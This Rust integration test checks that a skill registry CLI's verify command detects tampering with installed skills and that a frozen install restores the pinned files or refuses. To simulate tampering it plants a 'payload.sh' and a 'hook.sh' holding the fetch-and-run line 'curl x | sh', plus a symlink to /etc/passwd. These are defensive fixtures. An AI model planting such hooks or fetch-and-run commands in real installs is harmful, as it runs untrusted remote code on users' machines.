//! `skill verify` and `skill install --frozen`: the lock file records each registry install's
//! archive SHA-256, fingerprint and file hashes; verify reports every added, removed and
//! changed file; a frozen install puts back exactly what is pinned or refuses, naming the skill.

use crate::common;

use common::{Registry, registry_admin, run, skill, write_skill};
use std::path::Path;

fn cli(cwd: &Path, url: &str, token: &str, args: &[&str]) -> (i32, String, String) {
    run(skill()
        .current_dir(cwd)
        .env("SKILL_CONFIG_DIR", cwd.join("config"))
        .env("SKILL_CACHE_DIR", cwd.join("cache"))
        .env("SKILL_REGISTRY", url)
        .env("SKILL_TOKEN", token)
        .env_remove("CLAWHUB_REGISTRY")
        .env_remove("CLAWHUB_TOKEN")
        .args(args))
}

#[test]
fn verify_reports_drift_and_frozen_installs_put_back_exactly_what_is_pinned() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    registry_admin(&data, &["user", "add", "alice"]);
    let token = registry_admin(&data, &["token", "create", "alice"]);
    let server = Registry::serve(&[std::ffi::OsStr::new("--data"), data.as_os_str()]);
    let cwd = tmp.path();
    let ok = |args: &[&str]| {
        let (code, stdout, stderr) = cli(cwd, &server.url, &token, args);
        assert_eq!(code, 0, "{args:?}: {stdout}{stderr}");
        stdout
    };
    let dir = write_skill(
        &cwd.join("src"),
        "pdf-tools",
        "---\nname: pdf-tools\ndescription: Extracts tables from PDFs. Use when the user shares a PDF.\n---\n\nRun it.\n",
    );
    std::fs::write(dir.join("notes.md"), "# Notes\n").unwrap();
    ok(&["publish", "src/pdf-tools"]);
    ok(&["install", "pdf-tools", "--dir", "proj/skills"]);

    let lock: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(cwd.join("proj/.clawhub/lock.json")).unwrap(),
    )
    .unwrap();
    let entry = &lock["skills"]["pdf-tools"];
    assert_eq!(entry["sha256"].as_str().map(str::len), Some(64), "{entry}");
    assert_eq!(
        entry["fingerprint"].as_str().map(str::len),
        Some(64),
        "{entry}"
    );
    let files: Vec<&str> = entry["files"]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    // The registry's `_meta.json` (its publish time and owner) is not the skill: not pinned,
    // not trusted, and a change to it is no drift.
    assert_eq!(files, ["SKILL.md", "notes.md"]);

    assert_eq!(ok(&["verify", "--dir", "proj/skills"]), "pdf-tools: ok\n");

    let skill_dir = cwd.join("proj/skills/pdf-tools");
    std::fs::write(skill_dir.join("_meta.json"), "{\"slug\": \"other\"}\n").unwrap();
    assert_eq!(ok(&["verify", "--dir", "proj/skills"]), "pdf-tools: ok\n");
    std::fs::write(skill_dir.join("SKILL.md"), "edited\n").unwrap();
    std::fs::remove_file(skill_dir.join("notes.md")).unwrap();
    std::fs::create_dir_all(skill_dir.join(".hidden")).unwrap();
    std::fs::write(skill_dir.join(".hidden/payload.sh"), "curl x | sh\n").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", skill_dir.join("link")).unwrap();
    let (code, stdout, _) = cli(
        cwd,
        &server.url,
        &token,
        &["verify", "--dir", "proj/skills"],
    );
    assert_eq!(code, 1);
    assert_eq!(
        stdout,
        "pdf-tools: changed\n  + .hidden/payload.sh\n  + link\n  - notes.md\n  ~ SKILL.md\n"
    );
    let (code, stdout, _) = cli(
        cwd,
        &server.url,
        &token,
        &["verify", "--dir", "proj/skills", "--json"],
    );
    assert_eq!(code, 1);
    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["drift"], 1);
    assert_eq!(
        report["skills"][0]["removed"],
        serde_json::json!(["notes.md"])
    );

    // The install record is checked too: an origin.json pointing elsewhere, or a file the
    // installer never writes.
    std::fs::write(skill_dir.join("SKILL.md"), "edited\n").unwrap();
    let origin_path = skill_dir.join(".clawhub/origin.json");
    let mut origin: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&origin_path).unwrap()).unwrap();
    origin["installedVersion"] = serde_json::json!("9.9.9");
    std::fs::write(&origin_path, origin.to_string()).unwrap();
    std::fs::write(skill_dir.join(".clawhub/hook.sh"), "curl x | sh\n").unwrap();
    let (code, stdout, _) = cli(
        cwd,
        &server.url,
        &token,
        &["verify", "--dir", "proj/skills"],
    );
    assert_eq!(code, 1);
    assert!(
        stdout.contains("  ! .clawhub/hook.sh: not written by the installer\n")
            && stdout.contains(
                "  ! .clawhub/origin.json: installedVersion is 9.9.9, the lock file says 1.0.0\n"
            ),
        "{stdout}"
    );
    std::fs::remove_file(skill_dir.join(".clawhub/hook.sh")).unwrap();

    // A frozen install puts the pinned files back, and verify agrees.
    assert_eq!(
        ok(&["install", "--frozen", "--dir", "proj/skills"]),
        "Installed pdf-tools v1.0.0 as locked\n"
    );
    assert_eq!(ok(&["verify", "--dir", "proj/skills"]), "pdf-tools: ok\n");
    assert_eq!(
        ok(&["install", "--frozen", "--dir", "proj/skills"]),
        "pdf-tools v1.0.0: as locked\n"
    );
    let after: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(cwd.join("proj/.clawhub/lock.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(after, lock, "a frozen install changes nothing in the lock");

    // A lock that pins other bytes than the registry serves: refused, nothing written.
    let mut pinned = lock.clone();
    pinned["skills"]["pdf-tools"]["files"]["SKILL.md"] = serde_json::json!("0".repeat(64));
    std::fs::write(
        cwd.join("proj/.clawhub/lock.json"),
        serde_json::to_string_pretty(&pinned).unwrap(),
    )
    .unwrap();
    std::fs::remove_dir_all(&skill_dir).unwrap();
    let (code, _, stderr) = cli(
        cwd,
        &server.url,
        &token,
        &["install", "--frozen", "--dir", "proj/skills"],
    );
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("pdf-tools: the registry's 1.0.0 is not what the lock file pins"),
        "{stderr}"
    );
    assert!(!skill_dir.exists());
    let (code, stdout, _) = cli(
        cwd,
        &server.url,
        &token,
        &["verify", "--dir", "proj/skills"],
    );
    assert_eq!(
        (code, stdout.as_str()),
        (
            1,
            "pdf-tools: missing (in the lock file, not in proj/skills)\n"
        )
    );
}
